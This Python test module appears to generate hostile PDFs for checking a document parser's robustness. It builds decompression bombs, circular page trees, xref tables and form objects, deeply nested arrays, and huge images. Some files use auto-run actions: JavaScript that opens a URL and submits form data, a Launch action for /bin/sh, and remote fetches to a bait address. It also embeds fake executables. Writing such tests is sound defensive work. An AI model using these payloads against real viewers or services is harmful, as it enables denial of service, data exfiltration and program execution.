"""PDFs that unpack to far more than they hold, go in circles, act by themselves, or lead away."""

import random
import zlib
from collections.abc import Callable, Sequence

from tests.desk.documents import encrypted_pdf
from tests.hostile.bombs.bait import Bait
from tests.hostile.bombs.packages import MEGABYTE

TEXT = b"BT /F1 12 Tf 72 700 Td (Dear Ms. Roe: We urge you to act.) Tj ET"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def stream(data: bytes, more: bytes = b"") -> bytes:
    """A stream object."""
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), more, data)


def pdf(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """The objects, of which the first is the catalog, as a file with their places."""
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    end = b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF" % (
        len(places) + 1,
        trailer,
        len(body),
    )
    return body + head + table + end


def page(
    content: bytes = b"",
    *,
    catalog: bytes = b"",
    more: bytes = b"",
    box: bytes = b"0 0 612 792",
    others: Sequence[bytes] = (),
) -> bytes:
    """A PDF of one page; `content` is its stream object, `others` begin with object 6."""
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>%s>>>>"
            % (box, more),
            content or stream(TEXT),
            FONT,
            *others,
        ]
    )


def flate(_bait: Bait) -> bytes:
    """A page of 300 MB of blanks."""
    return page(stream(zlib.compress(b" " * (300 * MEGABYTE)), b"/Filter/FlateDecode"))


def flate_of_words(_bait: Bait) -> bytes:
    """A page that writes the same words a million times over."""
    return page(stream(zlib.compress(TEXT * 1_000_000), b"/Filter/FlateDecode"))


def filters(_bait: Bait) -> bytes:
    """A stream that is packed three times, and named as packed twenty times."""
    data = zlib.compress(zlib.compress(zlib.compress(bytes(400 * MEGABYTE))))
    return page(stream(data, b"/Filter[%s]" % (b"/FlateDecode" * 20)))


def many_pages(_bait: Bait) -> bytes:
    """A hundred thousand pages, all the same."""
    kids = b"3 0 R " * 100_000
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 100000/Kids[%s]>>" % kids,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>",
        stream(TEXT),
    ]
    return pdf(objects)


def lying_count(_bait: Bait) -> bytes:
    """One page that says it is two thousand million."""
    return page().replace(b"/Count 1>>", b"/Count 2147483647>>")


def pages_in_circles(_bait: Bait) -> bytes:
    """A page tree that is its own child."""
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R 2 0 R]/Count 4/Parent 3 0 R>>",
            b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 4/Parent 2 0 R>>",
        ]
    )


def tables_in_circles(_bait: Bait) -> bytes:
    """A table of places that comes before itself."""
    data = page()
    at = data.rindex(b"xref\n0")
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d/XRefStm %d" % (at, at))


def objects_in_circles(_bait: Bait) -> bytes:
    """Streams whose length, filter and predecessor are themselves."""
    return page(
        b"<</Type/ObjStm/N 1000000/First 6/Extends 4 0 R/Length 4 0 R/Filter 4 0 R>>\nstream\n4 0 4 0\nendstream"
    )


def forms_in_circles(_bait: Bait) -> bytes:
    """A drawing that draws itself, and thirty that each draw the next ten times over."""
    kind = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>"
    forms = [stream(b"/X Do " * 10, kind % (number + 1)) for number in range(6, 36)]
    forms += [stream(b"/X Do " * 10 + TEXT, kind % 36)]
    return page(stream(TEXT + b" /X Do"), more=b"/XObject<</X 6 0 R>>", others=forms)


def deep_arrays(_bait: Bait) -> bytes:
    """A million brackets in one another."""
    return page(stream(b"[" * 1_000_000), catalog=b"/Names " + b"[" * 1_000_000)


def scripts(bait: Bait) -> bytes:
    """Scripts when it opens, closes and is printed."""
    script = b"<</S/JavaScript/JS(app.launchURL\\('%s/js'\\);this.submitForm\\('%s/form'\\))>>" % (
        (bait.http.encode(),) * 2
    )
    return page(catalog=b"/OpenAction %s/AA<</WC %s/WP %s>>" % (script, script, script))


def launching(bait: Bait) -> bytes:
    """Actions that start programs, open addresses, send and fetch data."""
    address = bait.http.encode()
    launch = b"<</S/Launch/F(/bin/sh)/Next<</S/URI/URI(%s/uri)/Next<</S/ImportData/F(%s)>>>>>>" % (
        address,
        address,
    )
    return page(catalog=b"/OpenAction %s" % launch)


def leading_away(bait: Bait) -> bytes:
    """Pages, streams, forms and fonts that lie in other files."""
    address = bait.http.encode()
    away = b"<</FS/URL/F(%s/stream)>>" % address
    catalog = (
        b"/OpenAction<</S/GoToR/F<</FS/URL/F(%s/goto)>>/D[0/Fit]>>/AcroForm<</XFA(%s)/Fields[]>>/URI<</Base(%s)>>"
        % ((address,) * 3)
    )
    return page(b"<</Length 0/F %s>>\nstream\n\nendstream" % away, catalog=catalog)


def carrying(_bait: Bait) -> bytes:
    """Files in the file."""
    names = b"/Names<</EmbeddedFiles<</Names[%s]>>>>" % (
        b"(a)<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>" * 1000
    )
    return page(catalog=names, others=[stream(b"MZ" * 100_000, b"/Type/EmbeddedFile")])


def picture(width: int, height: int, data: bytes, *, box: bytes = b"0 0 612 792", side: int = 800) -> bytes:
    """A PDF whose page is one grey picture."""
    more = b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode"
    image = stream(zlib.compress(data), more % (width, height))
    draw = stream(b"%d 0 0 %d 0 0 cm /X Do" % (side, side))
    return page(draw, more=b"/XObject<</X 6 0 R>>", box=box, others=[image])


def huge_picture(_bait: Bait) -> bytes:
    """A picture of 20,000 by 20,000 dots."""
    return picture(20_000, 20_000, bytes(400 * 1000**2))


def huge_page(_bait: Bait) -> bytes:
    """A page of a thousand million points each way."""
    return picture(8, 8, bytes(64), box=b"0 0 1000000000 1000000000", side=2_000_000_000)


def no_page(_bait: Bait) -> bytes:
    """A page without any extent, and one picture on it."""
    return picture(8, 8, bytes(64), box=b"0 0 0 0")


def noise(_bait: Bait) -> bytes:
    """A scan of nothing but noise."""
    return picture(1700, 2200, random.Random(1).randbytes(1700 * 2200))


def encrypted(_bait: Bait) -> bytes:
    """A PDF that opens only with a password."""
    return encrypted_pdf()


FILES: dict[str, Callable[[Bait], bytes]] = {
    "flate.pdf": flate,
    "a-million-times-the-same.pdf": flate_of_words,
    "filters-in-filters.pdf": filters,
    "100,000-pages.pdf": many_pages,
    "lying-count.pdf": lying_count,
    "pages-in-circles.pdf": pages_in_circles,
    "tables-in-circles.pdf": tables_in_circles,
    "objects-in-circles.pdf": objects_in_circles,
    "forms-in-circles.pdf": forms_in_circles,
    "brackets.pdf": deep_arrays,
    "scripts.pdf": scripts,
    "launching.pdf": launching,
    "leading-away.pdf": leading_away,
    "carrying-files.pdf": carrying,
    "huge-picture.pdf": huge_picture,
    "huge-page.pdf": huge_page,
    "no-page.pdf": no_page,
    "noise.pdf": noise,
    "encrypted.pdf": encrypted,
}
